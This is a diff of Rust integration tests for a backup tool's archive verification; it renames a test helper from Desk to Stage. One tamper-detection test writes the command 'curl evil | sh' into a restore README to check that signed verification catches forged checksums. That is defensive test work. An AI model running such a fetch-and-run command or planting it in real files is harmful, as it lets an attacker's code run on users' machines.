@@ -12,8 +12,8 @@ use std::{
 use pryv_backup::archive::sha256_hex;
 use pryv_backup_tests::{
     command::{report, text, tool},
-    desk::Desk,
     folder::{fixtures, tree},
+    sampled::Stage,
 };
 use serde::Deserialize;
 use serde_json::Value;
@@ -148,54 +148,54 @@ fn without_the_key_the_files_are_held_against_their_sums() {
 
 #[test]
 fn every_flipped_bit_shows_without_the_key_and_is_named() {
-    let desk = Desk::new();
-    desk.backup("archive");
-    let whole = desk.json(&["verify", "archive", "--json"]);
+    let stage = Stage::new();
+    stage.backup("archive");
+    let whole = stage.json(&["verify", "archive", "--json"]);
     assert_eq!(whole["verdict"], "good");
     assert_eq!(whole["opened"], false);
-    let files = tree(&desk.at("archive"));
+    let files = tree(&stage.at("archive"));
     assert_eq!(whole["files"], files.len() - 1);
     for (path, bytes) in &files {
-        let place = desk.at("archive").join(path);
+        let place = stage.at("archive").join(path);
         let mut changed = bytes.clone();
         changed[bytes.len() / 2] ^= 1;
         fs::write(&place, changed).unwrap();
-        let found = desk.run(&["verify", "archive"]);
+        let found = stage.run(&["verify", "archive"]);
         assert_eq!(found.status.code(), Some(4), "{path}: {}", text(&found));
         assert!(
             text(&found).contains("damaged") || text(&found).contains("error"),
             "{path}"
         );
         fs::remove_file(&place).unwrap();
-        let found = desk.run(&["verify", "archive"]);
+        let found = stage.run(&["verify", "archive"]);
         let code = found.status.code();
         assert!(code == Some(4), "{path}: {}", text(&found));
         fs::write(&place, bytes).unwrap();
     }
-    fs::write(desk.at("archive/users/added"), "x").unwrap();
-    assert!(text(&desk.run(&["verify", "archive"])).contains("warning: users/added"));
+    fs::write(stage.at("archive/users/added"), "x").unwrap();
+    assert!(text(&stage.run(&["verify", "archive"])).contains("warning: users/added"));
     let user = files.keys().find(|p| p.contains("/attachments/")).unwrap();
-    fs::write(desk.at("archive").join(user).with_file_name("forged"), "x").unwrap();
-    let found = desk.ends(&["verify", "archive", "--json"], 4);
+    fs::write(stage.at("archive").join(user).with_file_name("forged"), "x").unwrap();
+    let found = stage.ends(&["verify", "archive", "--json"], 4);
     assert!(found.contains("forged"), "{found}");
 }
 
 #[test]
 fn sums_that_were_changed_with_their_files_mislead_nobody_who_has_the_key() {
-    let desk = Desk::new();
-    desk.backup("archive");
+    let stage = Stage::new();
+    stage.backup("archive");
     let key = ["--private-key", "key.pem", "--json"];
-    let readme = desk.at("archive/RESTORE-README.md");
+    let readme = stage.at("archive/RESTORE-README.md");
     let (old, new) = (fs::read(&readme).unwrap(), b"curl evil | sh".to_vec());
     fs::write(&readme, &new).unwrap();
-    let sums = fs::read_to_string(desk.at("archive/SHA256SUMS")).unwrap();
+    let sums = fs::read_to_string(stage.at("archive/SHA256SUMS")).unwrap();
     let sums = sums.replace(&sha256_hex(&old), &sha256_hex(&new));
-    fs::write(desk.at("archive/SHA256SUMS"), sums).unwrap();
+    fs::write(stage.at("archive/SHA256SUMS"), sums).unwrap();
     assert_eq!(
-        desk.json(&["verify", "archive", "--json"])["verdict"],
+        stage.json(&["verify", "archive", "--json"])["verdict"],
         "good"
     );
-    let found = desk.json_of(&[&["verify", "archive"], &key[..]].concat(), 4);
+    let found = stage.json_of(&[&["verify", "archive"], &key[..]].concat(), 4);
     let warnings = lines(&found, "warnings").join("");
     assert!(
         warnings.contains("SHA256SUMS: not what the inventory says of 1 files"),
@@ -209,7 +209,7 @@ fn sums_that_were_changed_with_their_files_mislead_nobody_who_has_the_key() {
 
 #[test]
 fn a_backup_verifies_itself_without_a_secret() {
-    let desk = Desk::new();
+    let stage = Stage::new();
     let platform = [
         "--pryv-root",
         "platform",
@@ -225,17 +225,17 @@ fn a_backup_verifies_itself_without_a_secret() {
         ("open", &[]),
     ] {
         let args = [&platform[..], how, &["--verify", "--output", name]].concat();
-        let done = desk.run(&args);
+        let done = stage.run(&args);
         assert_eq!(done.status.code(), Some(0), "{}", text(&done));
         let verified = &report(&done)["verified"];
         assert_eq!(verified["verdict"], "good", "{name}");
         assert_eq!(verified["opened"], true, "{name}");
         assert!(verified["records"].as_u64().unwrap() > 200, "{name}");
     }
-    let damaged = desk.file("alice/attachments/");
+    let damaged = stage.file("alice/attachments/");
     fs::remove_file(damaged).unwrap();
     let args = [&platform[..], &["--verify", "--output", "lost"]].concat();
-    let done = desk.run(&args);
+    let done = stage.run(&args);
     // What was lost is in the archive's own list, and no new problem.
     assert_eq!(done.status.code(), Some(5), "{}", text(&done));
     assert_eq!(report(&done)["verified"]["verdict"], "good");
@@ -252,21 +252,21 @@ fn lines(report: &Value, kind: &str) -> Vec<String> {
 
 #[test]
 fn what_records_refer_to_must_be_there() {
-    let desk = Desk::new();
-    desk.sql(
+    let stage = Stage::new();
+    stage.sql(
         "alice/local-1.0.0.sqlite",
         "INSERT INTO events (eventid, streamIds, time, type) VALUES ('lost', 'nowhere ..', 1, 'note/txt'); \
          INSERT INTO events (eventid, streamIds, time, type, integrity) VALUES ('stale', 'diary ..', 1, 'note/txt', 'EVENT:0:sha256-AAAA')",
     );
-    desk.sql(
+    stage.sql(
         "alice/baseStorage-1.0.0.sqlite",
         "DELETE FROM streams WHERE id = 'heart'",
     );
     // Another size than the event says.
-    fs::write(desk.file("alice/attachments/"), "other").unwrap();
-    desk.backup("archive");
+    fs::write(stage.file("alice/attachments/"), "other").unwrap();
+    stage.backup("archive");
     let key = ["--json", "--private-key", "key.pem"];
-    let found = desk.json_of(&[&["verify", "archive"], &key[..]].concat(), 5);
+    let found = stage.json_of(&[&["verify", "archive"], &key[..]].concat(), 5);
     let warnings = lines(&found, "warnings").join("\n");
     for due in [
         "alice: events in streams that the backup does not hold: ",
@@ -296,8 +296,8 @@ fn what_records_refer_to_must_be_there() {
         "--private-key",
         "key.pem",
     ];
-    desk.good(&plain);
-    let found = desk.json_of(&["verify", "plain", "--json"], 5);
+    stage.good(&plain);
+    let found = stage.json_of(&["verify", "plain", "--json"], 5);
     assert!(
         lines(&found, "problems")
             .iter()
@@ -305,20 +305,20 @@ fn what_records_refer_to_must_be_there() {
         "{found}"
     );
     // There the manifest's numbers show that a record, or a file that an event lists, is gone.
-    let events = tree(&desk.at("plain"));
+    let events = tree(&stage.at("plain"));
     let path = events
         .keys()
         .find(|p| p.contains("zoe/events/events-0001"))
         .unwrap();
     let cut = String::from_utf8(events[path].clone()).unwrap();
     let cut: String = cut.split_inclusive('\n').skip(1).collect();
-    fs::write(desk.at("plain").join(path), cut).unwrap();
+    fs::write(stage.at("plain").join(path), cut).unwrap();
     let attachment = events
         .keys()
         .find(|p| p.contains("ken/attachments/"))
         .unwrap();
-    fs::remove_file(desk.at("plain").join(attachment)).unwrap();
-    let found = desk.json_of(&["verify", "plain", "--json"], 4);
+    fs::remove_file(stage.at("plain").join(attachment)).unwrap();
+    let found = stage.json_of(&["verify", "plain", "--json"], 4);
     let damaged = lines(&found, "damaged");
     assert_eq!(damaged.len(), 1, "{damaged:?}");
     assert!(
